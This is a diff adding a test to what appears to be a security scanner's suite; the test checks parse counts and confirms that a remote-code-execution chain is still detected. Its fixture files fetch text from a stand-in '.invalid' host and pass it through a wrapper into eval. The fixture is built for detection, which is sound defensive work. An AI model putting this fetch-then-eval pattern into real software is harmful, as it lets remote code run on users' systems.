@@ -45,3 +45,27 @@ describe('one parse per JavaScript file', () => {
     assert.match(text, new RegExp(`JavaScript files parsed: ${JS_FILES.length}, parses: ${JS_FILES.length}\\n`));
   });
 });
+
+describe('one analysis per JavaScript file', () => {
+  it('does not analyse again a file the pre-filter skipped once another file has analysed it as its import', async () => {
+    // Inert: the endpoint is under .invalid and nothing runs.
+    const files = {
+      'package.json': JSON.stringify({ name: 'helpers', version: '1.0.0' }),
+      // No pre-filter atom; it calls a local helper that has a sink, so it is a candidate again later.
+      'a-wrapper.js': "const run = require('./c-helper.js');\nmodule.exports = s => run(s);\n",
+      // Passes the pre-filter and imports the wrapper, which is analysed then for its summary.
+      'b-entry.js':
+        "const wrap = require('./a-wrapper.js');\nfetch('https://cfg.example.invalid/x').then(async r => wrap(await r.text()));\n",
+      'c-helper.js': 'module.exports = function run(code) {\n  return eval(code);\n};\n',
+    };
+    const dir = tempRepo(files);
+    dirs.push(dir);
+    const report = await scanFixture(dir);
+    assert.equal(report.timing['jsFilesParsed'], 3);
+    assert.equal(report.timing['jsParses'], 3);
+    // The chain through both files is still found.
+    assert.ok(
+      report.findings.some(f => f.ruleId === 'code/remote-code-execution' && f.location.file === 'b-entry.js' && f.location.line === 2),
+    );
+  });
+});
